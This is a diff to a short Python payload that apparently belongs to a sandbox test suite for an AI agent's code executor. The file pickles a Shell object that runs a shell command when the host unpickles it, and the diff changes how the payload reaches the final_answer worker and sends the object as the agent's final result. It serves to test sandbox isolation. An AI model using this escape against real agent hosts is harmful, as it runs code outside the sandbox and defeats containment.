@@ -3,7 +3,7 @@
 #            that runs a shell when unpickled - harmless unless the host unpickles data from the sandbox
 # Goal: d (run a shell command on the host)
 # Source: written for this sandbox; cf. smolagents CVE-2025-14931 (pickle in remote executor results).
-#         Under plain exec there is no final_answer and no host to attack: the payload stops with NameError.
+#         Under plain exec there is no final_answer and no host to attack: the payload stops with KeyError.
 # Requires: stdlib (pickle, base64, os)
 import base64
 import os
@@ -16,6 +16,7 @@ class Shell:
 
 
 blob = base64.b64encode(pickle.dumps(Shell())).decode()
-worker = final_answer.__self__
+hooks = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
+worker = hooks["final_answer"].__self__
 worker.channel.send({"op": "final", "v": {"$t": "pickle", "v": blob}})
 worker.channel.send({"op": "done", "id": 1, "final": True, "logs": "", "rest": "", "restart": None})
